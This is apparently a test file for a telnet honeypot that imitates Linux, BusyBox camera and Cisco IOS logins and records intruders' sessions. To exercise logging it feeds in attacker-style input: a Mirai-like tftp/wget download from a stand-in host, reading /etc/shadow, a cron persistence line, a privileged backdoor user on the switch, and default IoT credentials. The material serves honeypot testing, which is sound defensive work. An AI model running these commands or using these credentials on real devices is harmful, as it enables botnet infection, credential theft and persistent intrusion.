import {afterEach, describe, expect, it} from 'vitest'
import type {OptionValues} from '../../../../src/decoy/definition.ts'
import type {PersonaFacts} from '../../../../src/decoy/persona.ts'
import {recordingOf} from '../../../../src/events/replay/recording.ts'
import {lastKept, wayOf} from '../../../support/kept.ts'
import {eventually, type Served, serve} from '../../../support/serve.ts'
import {CAMERA, CISCO, OPTIONS, REFUSES, REFUSES_ECHO, Talk, telnetService} from './support.ts'

const SLOW = 30_000
const IOS: readonly [string, string] = ['Username: ', 'Password: ']
const UNIX: readonly [string, string] = [' login: ', 'Password: ']
let served: Served | null = null
let talk: Talk | null = null

afterEach(async () => {
  talk?.socket.destroy()
  await served?.close()
})

async function begin(
  facts: Partial<PersonaFacts>,
  options: OptionValues = OPTIONS,
): Promise<{talk: Talk; served: Served}> {
  const server = await serve(await telnetService(options, facts), {port: 23, service: 'telnet'})
  const conversation = new Talk(server.port)
  served = server
  talk = conversation
  return {talk: conversation, served: server}
}

async function linux(options: OptionValues = OPTIONS, facts: Partial<PersonaFacts> = {}) {
  const begun = await begin(facts, options)
  begun.talk.send(REFUSES)
  await begun.talk.until('\xff\xfd\x21')
  begun.talk.send(REFUSES_ECHO)
  return begun
}

describe('Linux', () => {
  it('shows its name, refuses, and closes after five', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await linux()
    expect(await client.until('login: ')).toBe('\xff\xfb\x01Debian GNU/Linux 12\r\nedge-3 login: ')
    client.send('root\r\0')
    await client.until('root\r\nPassword: ')
    client.send('wrong\r\0')
    expect(await client.until('login: ')).toBe('\r\n\r\nLogin incorrect\r\nedge-3 login: ')
    const [attempt] = server.named('auth.attempt')
    expect(attempt?.credential).toMatchObject({principal: 'root', secret: {text: 'wrong'}, outcome: 'failure'})
  })

  it('lets a honey user into a shell, and records what is done there', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await linux()
    await client.signIn('root', 'xc3511', UNIX)
    await client.until('root@edge-3:~# ')
    client.send('id; env | grep -c SSH_; cat /etc/shadow > /dev/null\r\0')
    expect(await client.until('root@edge-3:~# ')).toContain('uid=0(root) gid=0(root) groups=0(root)\r\n0\r\n')
    client.send('exit\r\0')
    await eventually(() => client.closed)
    const [command] = server.named('command')
    expect(command?.data).toMatchObject({user: 'root', kind: 'shell'})
    expect(server.named('file.read')[0]?.data?.path).toBe('/etc/shadow')
    const recording = recordingOf(server.events)
    expect(wayOf(recording?.frames ?? [], 'i')).toMatch(/^root\rxc3511\rid; .*\rexit\r$/)
    expect(wayOf(recording?.frames ?? [], 'o')).toMatch(
      /^Debian GNU\/Linux 12\r\n.*login: root\r\nPassword: \r\n.*logout\r\n$/s,
    )
  })

  it('records a terminal in the size of the client, and what is written in it', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await linux()
    client.send(Buffer.from('fffa1f0084002bfff0', 'hex'))
    await client.signIn('root', 'xc3511', UNIX)
    await client.until('root@edge-3:~# ')
    client.send('echo "* * * * * root id" > /etc/cron.d/x\r\0')
    await client.until('root@edge-3:~# ')
    client.socket.destroy()
    await eventually(() => server.named('session.end').length > 0)
    expect(server.events.at(-1)?.event).toBe('session.end')
    expect(lastKept(server.events).content.toString()).toBe('* * * * * root id\n')
    expect(recordingOf(server.events)).toMatchObject({columns: 132, rows: 43, truncated: false})
  })

  it('records nothing of who looks at the prompt and leaves', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await linux()
    await client.until('login: ')
    client.socket.destroy()
    await eventually(() => server.named('session.end').length > 0)
    expect(server.named('session.transcript')).toEqual([])
  })

  it('shows a banner instead of its name where one is set', {timeout: SLOW}, async () => {
    const {talk: client} = await linux({banner: 'Authorised\\nusers only'})
    expect(await client.until('login: ')).toContain('Authorised\r\nusers only\r\nedge-3 login: ')
  })
})

describe('BusyBox', () => {
  it('answers what IoT malware asks', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin(CAMERA)
    expect(await client.until('login: ')).toBe('\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\ncam-0f3a login: ')
    client.send('root\r\n')
    await client.until('Password: ')
    client.send('xc3511\r\n')
    expect(await client.until('~ # ')).toMatch(/BusyBox v1\.\d+\.\d+ \(.* UTC\) built-in shell \(ash\)/)
    for (const line of ['enable', 'system', 'shell']) {
      client.send(`${line}\r\n`)
      expect(await client.until('~ # ')).toContain(`-sh: ${line}: not found`)
    }
    client.send('/bin/busybox ECCHI\r\n')
    expect(await client.until('~ # ')).toContain('ECCHI: applet not found')
    client.send('cd /tmp; tftp -g -r mirai.arm 198.51.100.7; wget http://198.51.100.7/mirai.sh\r\n')
    await client.until('/tmp # ', 20_000)
    await eventually(() => server.named('request').length >= 2)
    expect(JSON.stringify(server.named('request').map(({data}) => data))).toContain('mirai')
  })

  it('closes after three tries', {timeout: SLOW}, async () => {
    const {talk: client} = await begin(CAMERA)
    for (let attempt = 0; attempt < 3; attempt++) {
      await client.signIn('root', 'guess', UNIX)
      await client.until('Login incorrect\r\n')
    }
    await eventually(() => client.closed)
  })
})

describe('Cisco IOS', () => {
  it('refuses three times and closes', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin(CISCO, {})
    expect(await client.until('Username: ')).toBe(
      '\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f\r\n\r\nUser Access Verification\r\n\r\nUsername: ',
    )
    client.send('admin\r\0')
    await client.until('Password: ')
    client.send('admin\r\0')
    expect(await client.until('Username: ')).toBe('\r\n% Login invalid\r\n\r\nUsername: ')
    for (let attempt = 0; attempt < 2; attempt++) {
      client.send('a\r\0')
      await client.until('Password: ')
      client.send('b\r\0')
      await client.until('% Login invalid')
    }
    await eventually(() => client.closed)
    expect(server.named('auth.attempt')).toHaveLength(3)
  })

  it('has a command line with modes', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin(CISCO)
    await client.signIn('admin', 'cisco', IOS)
    await client.until('ber-sw01>')
    const run = async (line: string, prompt: string): Promise<string> => {
      client.send(`${line}\r\0`)
      return client.until(prompt)
    }
    const version = await run('show version', 'ber-sw01>')
    expect(version).toMatch(/Cisco IOS Software, C\w+ Software \(C\w+-UNIVERSALK9-M\), Version 15\.2/)
    expect(version).toMatch(/ber-sw01 uptime is /)
    const serial = /Processor board ID (\S+)/.exec(version)?.[1] ?? 'none'
    expect(await run('sh inv', 'ber-sw01>')).toContain(serial)
    expect(await run('show ip int brief', 'ber-sw01>')).toMatch(/Vlan1 +127\.0\.0\.1/)
    expect(await run('show run', 'ber-sw01>')).toContain("% Invalid input detected at '^' marker.")
    client.send('enable\r\0')
    await client.until('Password: ')
    client.send('wrong\r\0')
    await client.until('Password: ')
    client.send('Core-2024\r\0')
    await client.until('ber-sw01#')
    expect(await run('show run', 'ber-sw01#')).toContain('hostname ber-sw01')
    await run('conf t', 'ber-sw01(config)#')
    await run('interface Vlan1', 'ber-sw01(config-if)#')
    await run('exit', 'ber-sw01(config)#')
    await run('username evil privilege 15 secret x', 'ber-sw01(config)#')
    await run('end', 'ber-sw01#')
    await run('copy tftp://198.51.100.7/x flash:', 'ber-sw01#')
    client.send('exit\r\0')
    await eventually(() => client.closed)
    const recording = recordingOf(server.events)
    expect(wayOf(recording?.frames ?? [], 'o')).toContain(
      '\r\nber-sw01#copy tftp://198.51.100.7/x flash:\r\n%Error opening ',
    )
    expect(wayOf(recording?.frames ?? [], 'i')).toContain('enable\rwrong\rCore-2024\r')
    const lines = JSON.stringify(server.named('command').map(({data}) => data?.line))
    expect(lines).toContain('username evil privilege 15 secret x')
    expect(server.named('auth.attempt').map(({credential}) => [credential?.method, credential?.outcome])).toEqual([
      ['password', 'success'],
      ['enable', 'failure'],
      ['enable', 'success'],
    ])
    expect(server.named('request')[0]?.data).toMatchObject({action: 'copy', from: 'tftp://198.51.100.7/x'})
  })

  it('differs between deckies', async () => {
    const {deviceOf} = await import('../../../../src/decoy/persona/ios-device.ts')
    const {showVersion} = await import('../../../../src/decoy/services/telnet/ios/device.ts')
    const {Persona} = await import('../../../../src/decoy/persona.ts')
    const {FACTS} = await import('./support.ts')
    const shown = ['55', '56', '57'].map((seed) =>
      showVersion(deviceOf(new Persona({...FACTS, ...CISCO, seed: seed.repeat(32)})), Date.now()).join('\n'),
    )
    expect(new Set(shown).size).toBe(3)
  })
})

describe('what is malformed', () => {
  it('is recorded, and bounded', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin(CISCO)
    await client.until('Username: ')
    client.send(Buffer.concat([Buffer.from([255, 250, 39]), Buffer.alloc(100_000, 65), Buffer.from([255, 240])]))
    await eventually(() => server.named('malformed').length > 0)
    expect(server.named('malformed')[0]?.data).toMatchObject({reason: 'long sub-negotiation'})
    client.send('A'.repeat(100_000))
    client.send('\r\0')
    await client.until('Password: ')
  })
})

describe('a client that', () => {
  it('leaves before it has negotiated is not waited for', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin({})
    await client.until('\xff\xfd')
    client.socket.end()
    await eventually(() => client.closed)
    expect(server.named('session.end')[0]?.data?.reason).toBe('peer-closed')
  })

  it('types nothing but empty lines is shown the door', {timeout: SLOW}, async () => {
    const {talk: client} = await begin(CISCO)
    await client.until('Username: ')
    client.send('\r\0'.repeat(1000))
    await eventually(() => client.closed)
    expect(client.said.length).toBeLessThan(1000)
  })

  it('types without reading is not listened to', {timeout: SLOW}, async () => {
    const {talk: client, served: server} = await begin(CISCO)
    await client.until('Username: ')
    client.socket.pause()
    client.send(`${'x'.repeat(8000)}`)
    const before = process.memoryUsage().rss
    for (let sent = 0; sent < 64; sent++) client.send('\x01\x05'.repeat(32_768))
    await new Promise((resolve) => setImmediate(resolve))
    client.socket.resume()
    client.send('\r\0')
    await client.until('Password: ')
    expect(process.memoryUsage().rss - before).toBeLessThan(128 * 1024 * 1024)
    expect(server.named('service.error')).toEqual([])
  })
})
